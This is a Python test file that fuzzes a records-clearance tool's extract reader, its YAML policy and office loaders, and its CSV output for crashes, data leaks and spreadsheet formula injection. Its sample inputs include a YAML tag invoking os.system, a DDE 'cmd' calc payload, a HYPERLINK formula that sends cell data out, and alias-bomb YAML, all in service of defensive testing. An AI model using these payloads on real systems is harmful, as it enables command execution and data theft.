"""Fuzzing the inputs a user controls (issue 15): extract files, policy and office YAML,
and the cells that end up in CSV files.

Each test generates inputs with Hypothesis and holds the invariants every input must
keep, whatever it is:

- a command ends with exit status 0, or 2 and one line (never 1, never a traceback);
- for every file, rows read = rows used + rows rejected;
- no value from the extract reaches a message: a marker string is planted in the
  data, and never appears on stderr, in a warning or in a reason;
- no cell of a CSV file the project writes starts a formula (``= + - @``, tab, CR)
  unless it is a number.

The number of examples is bounded so that the file runs in CI in well under a minute.
``CLEARANCE_FUZZ=deep`` multiplies them (about 50 times) for a long hunt:

    CLEARANCE_FUZZ=deep PYTHONPATH=src python -m pytest tests/test_fuzz.py -p no:randomly

(benchmarks/README.md, "Fuzzing"). A failure prints the smallest input Hypothesis
found; keep it as an ordinary test when it is fixed.
"""

from __future__ import annotations

import csv
import functools
import gzip
import json
import os
import tempfile
from pathlib import Path

import polars as pl
import pyarrow as pa
import pytest
import yaml
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from clearance.cli import app
from clearance.extract.columns import FIELDS, FILLERS
from clearance.extract.reader import ExtractError, read_extracts
from clearance.filings.office import OfficeError, load_office
from clearance.law import RulePackError
from clearance.policy import PolicyError, load_policy
from conftest import header, line

DEEP = os.environ.get("CLEARANCE_FUZZ", "").lower() == "deep"
REPO = Path(__file__).resolve().parents[1]
runner = CliRunner()


def fuzz(examples: int):
    """Hypothesis settings: ``examples`` in CI, about 50 times as many when deep."""
    return settings(
        max_examples=examples * 50 if DEEP else examples,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
        derandomize=not DEEP,  # CI: the same examples every run, so a failure reproduces
        # CI reports the failing example as found; deep also shrinks it to the smallest.
        phases=list(Phase) if DEEP else [Phase.explicit, Phase.generate],
        report_multiple_bugs=DEEP,
    )


def invoke(*args) -> object:
    return runner.invoke(app, [str(a) for a in args])


def assert_clean_exit(result, marker: str | None = None) -> None:
    """Exit 0, or 2 with one line; never 1, never a traceback; no marker on stderr."""
    output = result.output
    assert result.exit_code in (0, 2), (result.exit_code, output[-2000:], result.exception)
    assert "Traceback" not in output and "internal error" not in output
    if result.exit_code == 2:
        message = result.stderr.strip()
        assert message.startswith("clearance: ") and "\n" not in message, message
    if marker:
        assert marker not in result.stderr


# --- extract lines -----------------------------------------------------------------------

# Bytes a careless export or an attacker puts in a line.
HOSTILE = [
    b'"', b'""', b"\r", b"\n", b"\r\n", b"\x00", b",", b",,", b"\x1a", b"\x1b[31m", b"\x7f",
    b"\xe9", b"\xff", b"\xc3\xa9", b"\xef\xbb\xbf", b"\xe2\x80\xa8", b"\t", b" ", b"[/]",
    b"=1+1", b"RECORD_ID", b"\\", b"'",
]  # fmt: skip
MARKED_FIELDS = ["PRI_NAME", "COMMENT_TEXT", "CII_NUMBER", "FE_NUM_CRT_CASE", "PRI_DOB"]


@st.composite
def marker(draw) -> str:
    """A value that no message, warning or reason could contain by chance."""
    return "QZMARK" + draw(st.text(alphabet="BCDFGHJKLMNPQRSTVWXZ", min_size=6, max_size=6))


@st.composite
def good_line(draw, mark: str) -> bytes:
    values = {
        "SUBJECT_ID": draw(st.sampled_from(["1", "2", "3", "10000001"])),
        "CNT_ORDER": draw(st.sampled_from(["001001001000", "001002001000", "002001001000"])),
        "STP_EVENT_DATE": draw(st.sampled_from(["20100105", "19991231", "20161108", "2010"])),
        "OFFENSE_DESCR": draw(
            st.sampled_from(["11357 HS-POSSESS MARIJUANA", "11360(A)(2) HS", "459 PC", ""])
        ),
        "SENT_LENGTH": draw(st.sampled_from(["", "3", "99999", "LIFE"])),
        "SENT_TIME_CODE": draw(st.sampled_from(["", "Y", "D", "M"])),
    }
    for name in draw(st.sets(st.sampled_from(MARKED_FIELDS), min_size=1)):
        values[name] = mark + draw(st.sampled_from(["", ",ANN", " Q", '"X']))
    for name in draw(st.sets(st.sampled_from(FIELDS[:60]), max_size=3)):
        values.setdefault(name, draw(st.sampled_from(sorted(FILLERS))))
    return line(**values).encode("utf-8")


@st.composite
def mutated(draw, raw: bytes) -> bytes:
    """A line with a few byte-level mutations: inserted hostile bytes, cut or repeated
    fields, a huge value, a truncation."""
    for _ in range(draw(st.integers(0, 3))):
        kind = draw(st.sampled_from(["insert", "drop_field", "extra_field", "huge", "cut"]))
        fields = raw.split(b",")
        if kind == "insert":
            at = draw(st.integers(0, len(raw)))
            raw = raw[:at] + draw(st.sampled_from(HOSTILE)) + raw[at:]
        elif kind == "drop_field" and len(fields) > 1:
            del fields[draw(st.integers(0, len(fields) - 1))]
            raw = b",".join(fields)
        elif kind == "extra_field":
            fields.insert(draw(st.integers(0, len(fields))), draw(st.sampled_from(HOSTILE)))
            raw = b",".join(fields)
        elif kind == "huge":
            at = draw(st.integers(0, len(fields) - 1))
            fields[at] = b"H" * draw(st.sampled_from([1000, 140_000]))
            raw = b",".join(fields)
        elif kind == "cut":
            raw = raw[: draw(st.integers(0, len(raw)))]
    return raw


@st.composite
def extract_file(draw) -> tuple[bytes, str]:
    """A whole file: maybe a BOM and a header, good and mutated lines, blank lines, LF or
    CRLF, maybe gzip- or zstd-compressed. Returns the bytes and the planted marker."""
    mark = draw(marker())
    lines = []
    for _ in range(draw(st.integers(1, 8))):
        raw = draw(good_line(mark))
        if draw(st.booleans()):
            raw = draw(mutated(raw))
        lines.append(raw)
    if draw(st.integers(0, 4)) == 0:
        lines.insert(draw(st.integers(0, len(lines))), b"")
    if draw(st.booleans()):
        lines.insert(0, header().encode())
    ending = draw(st.sampled_from([b"\n"] * 5 + [b"\r\n"] * 4 + [b"\r"]))
    data = ending.join(lines) + draw(st.sampled_from([ending, b""]))
    if draw(st.booleans()):
        data = b"\xef\xbb\xbf" + data
    if draw(st.booleans()):
        data = data.decode("utf-8", "replace").encode("latin-1", "replace")
    packing = draw(st.sampled_from(["plain"] * 6 + ["gzip", "zstd", "cut_gzip"]))
    if packing == "gzip":
        data = gzip.compress(data)
    elif packing == "zstd":
        data = pa.compress(data, codec="zstd", asbytes=True)
    elif packing == "cut_gzip":
        data = gzip.compress(data)[: draw(st.integers(2, 40))]
    return data, mark


@fuzz(60)
@given(sample=extract_file(), chunk=st.sampled_from([None, 257, 4096]))
def test_the_reader_reads_or_refuses_every_file(sample, chunk):
    data, mark = sample
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "extract.dat"
        path.write_bytes(data)
        kwargs = {"chunk_bytes": chunk} if chunk else {}
        try:
            result = read_extracts([path], Path(tmp) / "work", **kwargs)
            rows = result.rows.collect()
        except ExtractError as exc:
            assert mark not in str(exc) and "\n" not in str(exc)
            return
    for f in result.files:
        assert f.rows_read == f.rows_used + f.rows_rejected
        assert all(mark not in w for w in f.warnings)
    assert rows.height == result.rows_used
    assert result.rejects.height == result.rows_rejected
    assert not any(mark in r for r in result.rejects["reason"].to_list())


@fuzz(20)
@given(sample=extract_file())
def test_inspect_exits_0_or_2_and_reconciles(sample):
    data, mark = sample
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "extract.dat"
        path.write_bytes(data)
        result = invoke("inspect", "--json", path)
    assert_clean_exit(result, mark)
    if result.exit_code == 0:
        figures = json.loads(result.stdout)
        rows = figures["rows"]
        assert rows["read"] == rows["used"] + rows["rejected"]
        assert mark not in json.dumps([figures["first_rejects"], figures["warnings"]])


@fuzz(5)
@given(sample=extract_file())
def test_run_exits_0_or_2_and_reconciles(sample):
    data, mark = sample
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "extract.dat"
        path.write_bytes(data)
        out = Path(tmp) / "out"
        result = invoke("run", path, "--county", "SACRAMENTO", "--as-of", "2020-07-01",
                        "--out", out)  # fmt: skip
        assert_clean_exit(result, mark)
        if result.exit_code == 0:
            summary = json.loads((out / "summary.json").read_text())
            rows = summary["rows"]
            assert rows["read"] == rows["used"] + rows["rejected"]
            assert mark not in (out / "rejects.csv").read_text("utf-8", "replace")
            assert mark not in json.dumps(json.loads((out / "run.json").read_text())["warnings"])
            assert_no_formula(out)


@fuzz(5)
@given(sample=extract_file())
def test_a_run_of_automatic_relief_exits_0_or_2_and_reconciles(sample):
    """The second rule pack reads the same hostile files: every line used or rejected,
    no traceback, no value of the extract in a message, no formula in a CSV cell
    (upcoming.csv included)."""
    data, mark = sample
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "extract.dat"
        path.write_bytes(data)
        out = Path(tmp) / "out"
        result = invoke("run", path, "--law", "ca-auto-relief", "--county", "SACRAMENTO",
                        "--as-of", "2026-07-01", "--out", out)  # fmt: skip
        assert_clean_exit(result, mark)
        if result.exit_code == 0:
            rows = json.loads((out / "summary.json").read_text())["rows"]
            assert rows["read"] == rows["used"] + rows["rejected"]
            assert (out / "upcoming.csv").exists()
            assert_no_formula(out)


@fuzz(20)
@given(sample=extract_file())
def test_the_web_upload_check_accepts_or_refuses_with_one_line(sample):
    from clearance.web.uploads import ReceivedFile, UploadError, check_file

    data, mark = sample
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / ".partial-upload"
        path.write_bytes(data)
        received = ReceivedFile(filename="county.dat", path=path, size=len(data))
        try:
            check_file(received)
        except UploadError as exc:
            message = str(exc)
            assert mark not in message and "\n" not in message and tmp not in message
            assert exc.status < 500


# --- policy and office YAML --------------------------------------------------------------

# Part B of issue 15 makes bad YAML structure (list keys, deep nesting, integers over
# 4,300 digits) exit 2; until that lands, a crash on them is an expected failure here.
# The probe reruns the known reproductions, so these tests turn strict by themselves
# as soon as the fix is in.
PART_B = "bad YAML structure gives exit 1 until issue 15 part B (engineer B) is merged"
PART_B_PROBES = ["? [a, b]\n: 1\n", "name: " + "[" * 5000 + "]" * 5000 + "\n",
                 "name: x\ndismiss: [" + "9" * 5000 + "]\nreduce: []\n"]  # fmt: skip


@functools.cache
def yaml_hardened() -> bool:
    with tempfile.TemporaryDirectory() as tmp:
        for i, text in enumerate(PART_B_PROBES):
            path = Path(tmp) / f"p{i}.yaml"
            path.write_text(text)
            try:
                load_policy(str(path))
                load_office(path)
            except (PolicyError, OfficeError):
                pass
            except Exception:
                return False
    return True


def expected_until_part_b() -> None:
    if not yaml_hardened():
        pytest.xfail(PART_B)


scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True),
    st.text(max_size=20),
    st.sampled_from(["dismiss", "reduce", "review", "11357", "yes", "~", "2016-11-09", ""]),
)
POLICY_KEYS = ["name", "county", "dismiss", "reduce", "misdemeanors", "additional_relief",
               "review", "based_on", "under_21", "age_threshold", "conviction_age",
               "crime_free", "only_prop64", "deceased", "sentence_completed",
               "comment_charge", "still_serving"]  # fmt: skip
OFFICE_KEYS = ["office", "attorney", "public_defender", "courts", "letters", "name",
               "address", "phone", "elected", "email", "website", "title", "bar_number",
               "split_by_courthouse", "names", "contact_phone", "contact_email",
               "contact_hours", "service", "en", "es"]  # fmt: skip


def structure(keys: list[str]):
    """Random YAML documents: mappings with known and unknown keys, lists, scalars."""
    key = st.one_of(st.sampled_from(keys), st.text(max_size=8))
    return st.recursive(
        scalar,
        lambda children: st.one_of(
            st.lists(children, max_size=4), st.dictionaries(key, children, max_size=5)
        ),
        max_leaves=12,
    )


# YAML that a generated structure cannot produce: aliases, complex keys, tags, deep
# nesting, huge numbers, tabs, a document that is not a mapping.
RAW_YAML = [
    "a: &x [1, 2]\nb: *x\n",
    "? [a, b]\n: 1\n",
    "? {a: 1}\n: 2\n",
    "name: !!python/object:os.system x\n",
    "name: !!binary aGVsbG8=\n",
    "name: [" * 200 + "]" * 200 + "\n",
    "dismiss: " + "[" * 2000 + "]" * 2000 + "\n",
    "age: " + "9" * 5000 + "\n",
    "name: x\n\tdismiss: []\n",
    "- 1\n- 2\n",
    "just text\n",
    "name: x\nname: y\n",
    "%YAML 1.1\n---\nname: x\n",
    "\x00\x01",
    "a: &a [*a]\n",
    "l: &l [a, a, a]\nm: &m [*l, *l, *l]\nn: [*m, *m, *m]\n",
]


def yaml_document(keys: list[str], base: str):
    """A policy or office file: a dumped random structure, a valid file with a value
    replaced, or raw YAML that structures cannot express."""
    dumped = structure(keys).map(lambda d: yaml.safe_dump(d, allow_unicode=True))
    base_data = yaml.safe_load(base)

    @st.composite
    def edited(draw) -> str:
        data = json.loads(json.dumps(base_data))  # a deep copy
        node = data
        while isinstance(node, dict) and node and draw(st.booleans()):
            k = draw(st.sampled_from(sorted(node)))
            if not isinstance(node[k], dict):
                node[k] = draw(structure(keys))
                break
            node = node[k]
        return yaml.safe_dump(data, allow_unicode=True)

    return st.one_of(dumped, edited(), st.sampled_from(RAW_YAML), st.text(max_size=200))


STATUTE = (REPO / "src/clearance/packs/prop64/presets/statute.yaml").read_text()
OFFICE = (REPO / "examples/office.yaml").read_text()


@fuzz(40)
@given(text=yaml_document(POLICY_KEYS, STATUTE))
def test_a_policy_file_loads_or_is_refused_with_one_line(text):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "policy.yaml"
        path.write_text(text, "utf-8", errors="surrogatepass")
        try:
            load_policy(str(path))
        except (PolicyError, RulePackError) as exc:
            assert "\n" not in str(exc).strip()
        except Exception:
            expected_until_part_b()
            raise
        result = invoke("policies", "show", path)
    if result.exit_code == 1:
        expected_until_part_b()
    assert_clean_exit(result)


@fuzz(40)
@given(text=yaml_document(OFFICE_KEYS, OFFICE))
def test_an_office_file_loads_or_is_refused_with_one_line(text):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "office.yaml"
        path.write_text(text, "utf-8", errors="surrogatepass")
        try:
            load_office(path)
        except OfficeError as exc:
            assert "\n" not in str(exc).strip()
        except Exception:
            expected_until_part_b()
            raise


@pytest.fixture(scope="module")
def small_run(tmp_path_factory) -> Path:
    """A finished run of a few people, for `filings` to read."""
    tmp = tmp_path_factory.mktemp("fuzzrun")
    lines = [line(SUBJECT_ID=str(i), OFN=f"10F{i:04d}") for i in range(1, 4)]
    (tmp / "x.dat").write_text("\n".join(lines) + "\n")
    result = invoke("run", tmp / "x.dat", "--county", "SACRAMENTO", "--as-of", "2020-07-01",
                    "--out", tmp / "out")  # fmt: skip
    assert result.exit_code == 0, result.output
    return tmp / "out"


@fuzz(10)
@given(text=yaml_document(OFFICE_KEYS, OFFICE))
def test_filings_with_any_office_file_exits_0_or_2(small_run, text):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "office.yaml"
        path.write_text(text, "utf-8", errors="surrogatepass")
        result = invoke("filings", "--run", small_run, "--office", path, "--out",
                        Path(tmp) / "filings", "--no-letters")  # fmt: skip
    if result.exit_code == 1:
        expected_until_part_b()
    assert_clean_exit(result)


# --- CSV cells ---------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
formula = st.one_of(
    st.sampled_from([
        '=HYPERLINK("http://x.invalid/?"&A2,"click")', "=1+1", "+1-1", "-2+3", "@SUM(1)",
        "=cmd|' /C calc'!A0", "+-=@", "-", "=", "\t=1", "@",
    ]),
    st.tuples(st.sampled_from(["=", "+", "-", "@"]), st.text(max_size=10)).map("".join),
)  # fmt: skip


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# Part A of issue 15 makes every CSV the project writes spreadsheet-safe; until that
# lands, a formula in a cell is an expected failure here. The probe reruns the known
# reproduction (a name `=1+1` in determinations.csv), so the check turns strict by
# itself as soon as the fix is in.
PART_A = "CSV cells may start a formula until issue 15 part A (engineer A) is merged"


@functools.cache
def csv_formula_safe() -> bool:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "x.dat"
        path.write_text(line(PRI_NAME="=1+1") + "\n")
        result = invoke("run", path, "--county", "SACRAMENTO", "--as-of", "2020-07-01",
                        "--out", Path(tmp) / "out")  # fmt: skip
        assert result.exit_code == 0, result.output
        name = pl.read_csv(Path(tmp) / "out/determinations.csv", infer_schema=False)["name"]
    return not name[0].startswith("=")


def assert_no_formula(folder: Path) -> None:
    try:
        _assert_no_formula(folder)
    except AssertionError:
        if not csv_formula_safe():
            pytest.xfail(PART_A)
        raise


def _assert_no_formula(folder: Path) -> None:
    """No cell of any CSV file under ``folder`` starts a formula, unless a number."""
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", errors="replace", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not (cell.startswith(FORMULA_START) and not is_number(cell)), (
                        f"{path.name}: a cell starts a formula: {cell[:40]!r}"
                    )


@fuzz(4)
@given(
    name=formula,
    case=formula,
    comment=formula,
    court=formula,
    letters=st.booleans(),
)
def test_no_csv_cell_starts_a_formula(name, case, comment, court, letters):
    """Names, case numbers, comments and court names that start a formula are written
    so that no spreadsheet evaluates them: determinations, rejects, the DOJ update file,
    the review list and the mailing list. (Engineer A's rule; fails until it merges.)"""
    rows = [
        line(SUBJECT_ID="1", PRI_NAME=name, OFN=case, COMMENT_TEXT=comment,
             STP_ORI_DESCR=court, OFFENSE_DESCR="11357 HS-POSSESS MARIJUANA"),
        line(SUBJECT_ID="2", PRI_NAME=name, FE_NUM_CRT_CASE=case, STP_ORI_DESCR=court,
             OFFENSE_DESCR="11359 HS-POSSESS FOR SALE", CONV_STAT_DESCR="FELONY",
             SENT_LENGTH="LIFE", SENT_TIME_CODE="Y"),
        line(SUBJECT_ID="", PRI_NAME=name),  # rejected: rejects.csv
    ]  # fmt: skip
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "x.dat"
        path.write_text("\n".join(rows) + "\n")
        out = Path(tmp) / "out"
        result = invoke("run", path, "--county", "SACRAMENTO", "--as-of", "2020-07-01",
                        "--out", out)  # fmt: skip
        assert_clean_exit(result)
        filings = [] if letters else ["--no-letters"]
        result = invoke("filings", "--run", out, "--out", Path(tmp) / "filings", *filings)
        assert_clean_exit(result)
        assert pl.read_csv(out / "determinations.csv", infer_schema=False).height == 2
        assert_no_formula(Path(tmp))


def test_the_deep_profile_is_documented():
    """CLEARANCE_FUZZ=deep is described where the benchmarks and long runs are."""
    text = (REPO / "benchmarks" / "README.md").read_text()
    assert "CLEARANCE_FUZZ=deep" in text and "tests/test_fuzz.py" in text


def test_the_marker_would_be_seen(tmp_path):
    """The marker check is not vacuous: a message that quoted the data would be caught."""
    result = invoke("inspect", "--json", tmp_path / "QZMARKBCDFGH.dat")
    assert result.exit_code == 2 and "QZMARKBCDFGH" in result.stderr
